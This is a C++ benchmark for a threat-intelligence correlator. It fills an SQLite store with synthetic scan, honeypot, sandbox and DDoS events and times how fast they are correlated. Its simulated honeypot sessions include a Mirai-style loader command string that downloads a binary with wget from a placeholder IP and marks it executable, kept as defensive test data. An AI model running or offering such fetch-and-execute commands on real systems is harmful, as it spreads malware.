// Correlation over stored events (issue 11 "Speed": 10 million stored events with 1 million distinct
// sources correlated in under 60 s on one core).
//
// correlation_bench [--db PATH] [--events N] [--sources S] [--rounds R] [--seed X] [--baselines 0|1]
//
// Builds (once; an existing PATH is reused as it is) an SQLite store of N events (default 10 million)
// from S distinct source addresses (default 1 million), as the sensors write them (every documented
// field, tests/support/correlation_events.h), in time order:
//   darknet.scan       ~70%: 5% mirai, 6% each nmap/zmap/masscan, the rest unknown-tool scans; 3% of
//                      the scans probe the port set of a sandboxed family's scan profile
//   honeypot.*         ~30%: telnet sessions of 4 events (login, a command, then a loader and a download
//                      or two more harmless commands); half the logins succeed
//   sample, sandbox.report, ddos.attack   2,000 each (families by YARA; scan profiles; C2; reflector victims)
// Then R rounds (default 3) of, on the same rows:
//   read       the baseline: every row the correlator needs through the store's cursor, nothing parsed
//   parse      read + each JSON body parsed (nlohmann), nothing else
//   correlate  kansoku intel correlate's path: read, parse, Correlator, upsert of every host and C2
// and prints each round and the medians, with correlate / read as the ratio.
// Pin it to one core: taskset -c 1 build/bench/correlation_bench.

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <filesystem>
#include <random>
#include <string>
#include <vector>

#include <fmt/format.h>

#include "intel/stored_correlation.h"
#include "store/sqlite_store.h"
#include "support/correlation_events.h"

using namespace kansoku;
using namespace kansoku::testing;

namespace {

using Clock = std::chrono::steady_clock;

struct Args {
    std::string db;
    uint64_t events = 10'000'000;
    uint64_t sources = 1'000'000;
    int rounds = 3;
    uint64_t seed = 1;
    bool baselines = true;
};

double seconds(Clock::time_point start) {
    return std::chrono::duration<double>(Clock::now() - start).count();
}

double median(std::vector<double> v) {
    std::sort(v.begin(), v.end());
    return v.empty() ? 0 : v[v.size() / 2];
}

void check(const Result<void>& r) {
    if (!r) {
        std::fprintf(stderr, "correlation_bench: %s\n", r.error().message.c_str());
        std::exit(1);
    }
}

std::string sha(uint64_t n) {
    std::mt19937_64 mix(n * 0x9e3779b97f4a7c15ULL + 7);
    return fmt::format("{:016x}{:016x}{:016x}{:016x}", mix(), mix(), mix(), mix());
}

/// Source number i of the pool (100.64.0.0/10 has room for 4 million).
std::string source(uint64_t i) {
    return IpAddress::fromV4(0x64400000U + static_cast<uint32_t>(i)).toString();
}

const std::vector<std::vector<uint16_t>> kPortSets = {
    {23, 2323}, {23}, {5555}, {37215, 52869}, {80, 8080}, {22}, {445}, {3389}, {1433, 3306}, {8291}, {81, 8081},
};
const char* const kFamilies[] = {"mirai_table_xor22", "gafgyt_commands", "mozi_dht", "tsunami_irc", "upx_packed_elf"};

void generate(store::SqliteStore& db, const Args& args) {
    std::mt19937_64 rng(args.seed);
    const Timestamp t0 = 1'714'564'800'000'000; // 2024-05-01T12:00:00Z
    constexpr uint64_t kSpecials = 2'000;       // samples, sandbox reports, attacks
    const uint64_t remaining = args.events - 3 * kSpecials;
    const uint64_t sessions = remaining * 3 / 10 / 4;
    const uint64_t scans = remaining - 4 * sessions;
    const uint64_t slots = scans + sessions;
    const uint64_t special_every = slots / kSpecials;
    uint64_t written = 0;
    uint64_t next_source = 0; // every source appears: the first S scans take them in turn
    uint64_t sessions_done = 0;
    uint64_t specials_done = 0;
    Timestamp ts = t0;
    auto put = [&](const Event& e) {
        check(db.append(e));
        if (++written % 200'000 == 0) {
            check(db.commit());
            check(db.begin());
            std::fprintf(stderr, "\rgenerating %llu/%llu events", static_cast<unsigned long long>(written),
                         static_cast<unsigned long long>(args.events));
        }
    };
    check(db.begin());
    for (uint64_t slot = 0; slot < slots; ++slot) {
        ts += 10'000; // 10 ms apart: 10 million events span about a day
        if (slot % special_every == 0 && specials_done < kSpecials) {
            const uint64_t k = specials_done++;
            const std::string hash = sha(k);
            const char* family = kFamilies[k % std::size(kFamilies)];
            put(sampleEvent(hash, {family}, ts));
            const auto& ports = kPortSets[k % 5]; // the first five port sets are families' profiles
            const std::string tool = k % 5 == 4 ? "mirai" : "unknown";
            put(sandboxEvent(hash,
                             {{{fmt::format("192.0.2.{}", k % 200 + 1), 6667}, {"198.51.100.250", 80}},
                              {{fmt::format("cnc{}.example.test", k % 300), "198.51.100.250"}},
                              tool,
                              ports},
                             ts + 1));
            put(attackEvent(source(rng() % args.sources), k % 2 == 0 ? "reflector" : "backscatter", ts + 2));
        }
        const bool session = slot % (slots / std::max<uint64_t>(sessions, 1)) == 0 && sessions_done < sessions;
        if (session) {
            const std::string src = source(rng() % args.sources);
            const std::string id = fmt::format("{:016x}", sessions_done++);
            const bool success = rng() % 2 == 0;
            put(loginEvent(id, src, success, ts));
            put(commandEvent(id, src, "uname -a", {"uname"}, {}, ts + 1));
            if (success && rng() % 2 == 0) {
                put(commandEvent(id, src, "cd /tmp; wget http://192.0.2.7/bins/x.arm7; chmod 777 x.arm7",
                                 {"cd", "wget", "chmod"}, {}, ts + 2));
                put(downloadEvent(id, src, sha(rng() % kSpecials), ts + 3));
            } else {
                put(commandEvent(id, src, "cat /proc/cpuinfo", {"cat"}, {}, ts + 2));
                put(commandEvent(id, src, "exit", {"exit"}, {}, ts + 3));
            }
            continue;
        }
        const uint64_t i = next_source < args.sources ? next_source++ : rng() % args.sources;
        const uint64_t r = rng() % 100;
        const char* tool = r < 5 ? "mirai" : r < 11 ? "nmap" : r < 17 ? "zmap" : r < 23 ? "masscan" : "unknown";
        // 3% of the scans probe a sandboxed family's port set (kPortSets[0..4]), the rest other sets.
        const size_t set = rng() % 100 < 3 ? rng() % 5 : 5 + rng() % (kPortSets.size() - 5);
        put(scanEvent(source(i), tool, kPortSets[set], ts));
    }
    check(db.commit());
    std::fprintf(stderr, "\rgenerated %llu events%20s\n", static_cast<unsigned long long>(written), "");
}

uint64_t countRows(store::SqliteStore& db) {
    uint64_t n = 0;
    for (const std::string& type : intel::Correlator::inputTypes()) {
        store::EventQuery q;
        q.type = type;
        auto c = db.countEvents(q);
        n += c ? *c : 0;
    }
    return n;
}

/// The baseline passes: every input row through the cursor, optionally parsed.
double readAll(store::SqliteStore& db, bool parse, uint64_t* rows) {
    const auto start = Clock::now();
    uint64_t n = 0;
    uint64_t check_sum = 0;
    for (const std::string& type : intel::Correlator::inputTypes()) {
        store::EventQuery q;
        q.type = type;
        auto cursor = db.cursor(q);
        if (!cursor) {
            check(fail(cursor.error()));
        }
        while (true) {
            auto more = (*cursor)->next();
            if (!more) {
                check(fail(more.error()));
            }
            if (!*more) {
                break;
            }
            const auto& row = (*cursor)->row();
            check_sum += row.body.size();
            if (parse) {
                check_sum += nlohmann::ordered_json::parse(row.body, nullptr, false).size();
            }
            ++n;
        }
    }
    *rows = n + (check_sum == 0 ? 1 : 0);
    return seconds(start);
}

} // namespace

int main(int argc, char** argv) {
    Args args;
    for (int i = 1; i < argc; ++i) {
        const std::string flag = argv[i];
        if (i + 1 >= argc) {
            std::fprintf(stderr, "correlation_bench: %s needs a value\n", flag.c_str());
            return 2;
        }
        const char* value = argv[++i];
        if (flag == "--db") {
            args.db = value;
        } else if (flag == "--events") {
            args.events = std::strtoull(value, nullptr, 10);
        } else if (flag == "--sources") {
            args.sources = std::strtoull(value, nullptr, 10);
        } else if (flag == "--rounds") {
            args.rounds = std::atoi(value);
        } else if (flag == "--baselines") {
            args.baselines = std::string_view(value) != "0";
        } else if (flag == "--seed") {
            args.seed = std::strtoull(value, nullptr, 10);
        } else {
            std::fprintf(stderr,
                         "usage: %s [--db PATH] [--events N] [--sources S] [--rounds R] [--seed X] [--baselines 0|1]\n"
                         "  an existing PATH is reused as it is; default /var/tmp/kansoku-correlation-N-S-X.db\n",
                         argv[0]);
            return 2;
        }
    }
    if (args.events < 100'000 || args.sources == 0 || args.sources > 4'000'000 || args.rounds < 1) {
        std::fprintf(stderr, "correlation_bench: --events >= 100000, 1 <= --sources <= 4000000, --rounds >= 1\n");
        return 2;
    }
    if (args.db.empty()) {
        args.db = fmt::format("/var/tmp/kansoku-correlation-{}-{}-{}.db", args.events, args.sources, args.seed);
    }
    const bool exists = std::filesystem::exists(args.db);
    auto opened = store::SqliteStore::open(args.db, store::OpenMode::ReadWriteCreate);
    if (!opened) {
        std::fprintf(stderr, "correlation_bench: %s\n", opened.error().message.c_str());
        return 1;
    }
    store::SqliteStore& db = **opened;
    if (!exists) {
        const auto start = Clock::now();
        generate(db, args);
        std::printf("built %s in %.0f s (%.1f GB)\n", args.db.c_str(), seconds(start),
                    static_cast<double>(std::filesystem::file_size(args.db)) / 1e9);
    }
    const uint64_t rows = countRows(db);
    std::printf("store: %s, %llu input events\n", args.db.c_str(), static_cast<unsigned long long>(rows));

    std::vector<double> read_s, parse_s, correlate_s, write_s, cpu_s;
    for (int round = 1; round <= args.rounds; ++round) {
        uint64_t n = 0;
        read_s.push_back(args.baselines ? readAll(db, false, &n) : 0);
        parse_s.push_back(args.baselines ? readAll(db, true, &n) : 0);
        intel::Correlator correlator{intel::CorrelationConfig{}};
        const std::clock_t cpu_start = std::clock();
        auto summary = intel::correlateStored(db, correlator, {});
        cpu_s.push_back(static_cast<double>(std::clock() - cpu_start) / CLOCKS_PER_SEC);
        if (!summary) {
            std::fprintf(stderr, "correlation_bench: %s\n", summary.error().message.c_str());
            return 1;
        }
        const auto& c = summary->counters;
        correlate_s.push_back(summary->read_seconds + summary->write_seconds);
        write_s.push_back(summary->write_seconds);
        std::printf("round %d: read %.1f s, read+parse %.1f s, correlate %.1f s (of which upsert %.1f s; CPU %.1f s): "
                    "%llu events, "
                    "%llu hosts, %llu C2, %llu malformed, refused %llu scanner / %llu victim, evicted %llu\n",
                    round, read_s.back(), parse_s.back(), correlate_s.back(), write_s.back(), cpu_s.back(),
                    static_cast<unsigned long long>(summary->events), static_cast<unsigned long long>(summary->hosts),
                    static_cast<unsigned long long>(summary->c2), static_cast<unsigned long long>(c.malformed),
                    static_cast<unsigned long long>(c.refused_scanner),
                    static_cast<unsigned long long>(c.refused_victim),
                    static_cast<unsigned long long>(c.evicted_hosts + c.evicted_scan_sources + c.evicted_sessions));
        std::fflush(stdout);
    }
    std::printf("median: read %.1f s, read+parse %.1f s, correlate %.1f s (upsert %.1f s, CPU %.1f s); "
                "correlate/read %.2f; %.2f M events/s\n",
                median(read_s), median(parse_s), median(correlate_s), median(write_s), median(cpu_s),
                median(correlate_s) / median(read_s), static_cast<double>(rows) / median(correlate_s) / 1e6);
    return 0;
}
